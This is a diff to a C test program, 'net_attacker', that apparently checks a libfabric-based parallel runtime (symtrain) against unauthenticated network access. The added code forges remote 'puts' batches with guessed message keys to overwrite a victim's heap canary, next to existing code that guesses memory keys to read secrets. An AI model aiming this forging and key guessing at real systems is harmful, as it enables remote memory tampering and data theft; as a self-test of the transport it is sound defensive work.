@@ -9,7 +9,12 @@
  * For each endpoint and each guessed key (on an endpoint of its own: a
  * provider may drop the connection after a bad key) it reads the segment from offset 0
  * in 4 KiB pieces, looks for the global's marker (and reads the secret after
- * it) and the heap's canary (and writes over it). Exits 0 when nothing could
+ * it) and the heap's canary (and writes over it). Then it sends forged
+ * batches of puts, the messages a PE's CPU applies to its memory without any
+ * memory key, over the heap's canary (where the heap's first allocation
+ * lies): in the old layout (no message key) and in the new one with guessed
+ * keys. Whether those landed only the victim can tell (it checks its canary
+ * at the end). Exits 0 when nothing could
  * be read or written ("the attack failed"), 3 when anything could, 1 when it
  * could not even run (no provider, bad arguments) or a target never answered.
  */
@@ -67,6 +72,32 @@ static int wait_one(void) {
 
 /* One read or write, waited for. The first to a target may find the
  * connection still being made (FI_ENOTCONN): that is tried again. */
+/* A batch of one put of `len` bytes at heap offset `at`, as symtrain's PEs
+ * send them (src/transport/ofi.c); with the message key field when `keyed`. */
+static void forge_batch(fi_addr_t to, int keyed, uint32_t from, uint64_t key, uint64_t at) {
+    char msg[128] = {0}, pwn[32] = "pwned-by-a-stranger-on-the-net!";
+    size_t h = keyed ? 32 : 24, len = h + 16 + sizeof pwn;
+    uint32_t bytes = (uint32_t)len, seq = 0; /* a PE's count of its own batches to itself */
+    uint64_t ent[2] = {at, sizeof pwn};
+    msg[0] = 4; /* AM_PUTS */
+    memcpy(msg + 4, &from, 4);
+    if (keyed) memcpy(msg + 8, &key, 8);
+    memcpy(msg + h - 8, &bytes, 4);
+    memcpy(msg + h - 4, &seq, 4);
+    memcpy(msg + h, ent, sizeof ent);
+    memcpy(msg + h + 16, pwn, sizeof pwn);
+    int rc;
+    time_t start = time(NULL);
+    do {
+        rc = (int)fi_send(ep, msg, len, NULL, to, NULL);
+        if (!rc) rc = wait_one();
+        if (rc == -FI_EAGAIN || rc == -FI_ENOTCONN) fi_cq_read(cq, NULL, 0);
+    } while ((rc == -FI_EAGAIN || rc == -FI_ENOTCONN) && time(NULL) - start < 3);
+    printf("net_attacker: forged batch (%s, from PE %u, key %llu) sent: %s\n",
+           keyed ? "keyed" : "old layout", from, (unsigned long long)key,
+           rc ? fi_strerror(-rc) : "ok");
+}
+
 static int rma(int write, void *buf, size_t len, fi_addr_t to, uint64_t addr, uint64_t key) {
     int rc;
     time_t start = time(NULL);
@@ -170,6 +201,13 @@ int main(int argc, char **argv) {
             answered |= last_rc != -FI_ENOTCONN && last_rc != -FI_ETIMEDOUT;
             close_ep();
         }
+        fi_addr_t to;
+        open_ep(&sa, &to);
+        for (uint32_t from = 0; from < 2; from++) {
+            forge_batch(to, 0, from, 0, starts[1]);
+            for (uint64_t key = 0; key <= 4; key++) forge_batch(to, 1, from, key, starts[1]);
+        }
+        close_ep();
         if (!answered) {
             printf("net_attacker: %s never answered: this run proves nothing\n", argv[t]);
             unanswered = 1;
